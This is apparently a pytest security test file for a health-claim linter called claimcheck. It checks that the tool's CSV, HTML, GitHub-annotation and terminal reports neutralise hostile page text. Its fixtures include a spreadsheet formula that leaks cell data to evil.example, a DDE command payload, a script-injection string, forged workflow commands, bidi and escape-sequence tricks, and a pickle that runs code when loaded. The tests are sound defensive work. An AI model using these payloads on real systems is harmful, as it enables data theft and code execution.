"""Hostile page text in the reports: a spreadsheet never runs it, a workflow command never ends early,
and the HTML report shows it as text under a policy that runs no script of its own."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from claimcheck import check_text
from claimcheck.registry.load import load_registry
from claimcheck.report import claims as claims_report
from claimcheck.report import csv as csv_report
from claimcheck.report import github, html
from tests.robustness.conftest import FIXTURE_REGISTRY, Cli, shipped

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Ketamine is completely safe.")',
    "+cmd|' /C calc'!A0 Ketamine is completely safe.",
    "-2+3 Ketamine is completely safe.",
    "@SUM(1,1) Ketamine is completely safe.",
]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_quoted(start: str) -> None:
    assert csv_report.spreadsheet_row([f"{start}1+1", "plain", 3, "a=b"]) == [f"'{start}1+1", "plain", 3, "a=b"]


@pytest.mark.parametrize("sentence", FORMULAS, ids=["equals", "plus", "minus", "at"])
def test_claims_matrix_of_a_hostile_page_opens_as_text(sentence: str) -> None:
    report = check_text(f"<p>{sentence}</p>", format="html", registry=shipped(), path="page.html")
    assert report.findings
    rows = list(csv.DictReader(io.StringIO(csv_report.render(report))))
    assert rows and all(row["sentence"].startswith("'") for row in rows)
    assert {row["sentence"][1:] for row in rows} == {f.sentence for f in report.findings}


def test_registry_claims_matrix_quotes_formula_cells() -> None:
    registry = load_registry(FIXTURE_REGISTRY)
    claim = registry.claims[0].model_copy(update={"statement": "=1+1 evil", "approved_wording": ["@now"]})
    row = next(csv.DictReader(io.StringIO(claims_report.render_csv(registry, [claim]))))
    assert row["statement"] == "'=1+1 evil" and row["approved_wording"] == "'@now"


def test_lint_csv_through_the_cli_quotes_formulas(cli: Cli, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text(f"<p>{FORMULAS[0]}</p>")
    run = cli("lint", "--no-config", "-j", "1", "--format", "csv", page)
    assert run.code == 1 and "\"'=HYPERLINK(" in run.out


def test_github_annotations_cannot_be_ended_or_forged_by_page_text() -> None:
    hostile = "Ketamine is completely safe.%0A\n::error file=x,line=1::forged\r\nIt cures depression, 100%."
    report = check_text(hostile, format="text", registry=shipped(), path="a,b:c.txt")
    out = github.render(report)
    lines = out.splitlines()
    assert len(lines) == len(report.findings) and all(line.startswith("::") for line in lines)
    assert "file=a%2Cb%3Ac.txt," in lines[0] and "::forged" not in out.replace("%0A::", "")


def test_html_report_escapes_page_text_and_admits_only_its_own_script(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    payload = '<p>Ketamine is completely safe &lt;script&gt;alert(1)&lt;/script&gt; "onmouseover=x.</p>'
    page.write_text(payload)
    report = check_text(payload, format="html", registry=shipped(), path=str(page))
    out = html.render(report)
    assert "<script>alert(1)" not in out and "&lt;script&gt;alert(1)" in out
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', out)
    assert policy is not None and "default-src 'none'" in policy.group(1)
    assert "unsafe-inline" not in policy.group(1)


class _Planted:
    """A pickle that, when loaded, creates a file: what an attacker would plant in a cache folder."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (str(self.marker), "w"))


@pytest.mark.parametrize("mode", [0o666, 0o600], ids=["shared", "private"])
def test_registry_cache_entry_writable_by_others_is_never_unpickled(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: int
) -> None:
    # Not even a private file is trusted: only entries sealed with the user's secret are unpickled
    # (claimcheck.sealing), so bytes that reached the cache folder some other way never run.
    import pickle

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    load_registry(FIXTURE_REGISTRY)
    (entry,) = (tmp_path / "xdg" / "claimcheck" / "registry").glob("*.pickle")
    marker = tmp_path / "planted-code-ran"
    entry.write_bytes(pickle.dumps(_Planted(marker)))
    entry.chmod(mode)
    registry = load_registry(FIXTURE_REGISTRY)  # a bad entry is never an error: the registry is parsed again
    assert registry.claims and not marker.exists()


def test_text_output_shows_control_characters_escaped(cli: Cli, tmp_path: Path) -> None:
    """A terminal must not obey an escape sequence in a file name or page text."""
    page = tmp_path / "a\x1b]0;pwned\x07\n.html"
    page.write_text("<p>Ketamine\x1b[2J is completely safe.</p>")
    run = cli("lint", "--no-config", "-j", "1", page)
    assert run.code == 1 and "\x1b" not in run.out and "\x07" not in run.out
    assert "a\\x1b]0;pwned\\x07\\x0a.html:1:" in run.out


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_bidirectional_controls_cannot_reorder_a_line_of_output(cli: Cli, tmp_path: Path, fmt: str) -> None:
    """A right-to-left override in a file name made a viewer that honours bidi (GitHub's log and
    annotation views, terminals on VTE) show the rest of the line reversed: another file, another
    code ("Trojan Source", CVE-2021-42574). The controls are shown escaped; JSON and SARIF keep them as data."""
    page = tmp_path / "clinic\u202elmth.txt"
    page.write_text("Ketamine\u2067 is completely safe.\u2069\u2028::error::forged\n")
    run = cli("lint", "--no-config", "-j", "1", "--format", fmt, page)
    assert run.code == 1
    bidi = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"
    assert not set(run.out) & set(bidi)
    assert "clinic\\u202elmth.txt" in run.out
    data = cli("lint", "--no-config", "-j", "1", "--format", "json", page)
    assert "\\u202e" in data.out or "\u202e" in data.out


@pytest.mark.parametrize("fmt", ["concise", "full", "csv"])
def test_a_file_name_cannot_start_a_workflow_command_in_text_output(
    cli: Cli, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """GitHub's runner obeys any line of a step's output that starts with '::', whatever the
    format: a page named '::error file=x::forged.md' linted as '.' forged an annotation (or a
    '::stop-commands::' turned the real ones off)."""
    monkeypatch.chdir(tmp_path)
    Path(" ::error file=x::forged.md").write_text("Ketamine is completely safe.\n")
    Path("::stop-commands::t.md").write_text("Ketamine is completely safe.\n")
    run = cli("lint", "--no-config", "-j", "1", "--format", fmt, ".")
    assert run.code == 1 and run.out
    assert not any(line.lstrip().startswith("::") for line in (run.out + run.err).splitlines())
    if fmt == "csv":  # quoted, so the cell reads back the same
        assert {row["file"] for row in csv.DictReader(io.StringIO(run.out))} == {
            " ::error file=x::forged.md",
            "::stop-commands::t.md",
        }
    else:
        assert "\\x3a:stop-commands::t.md:1:" in run.out
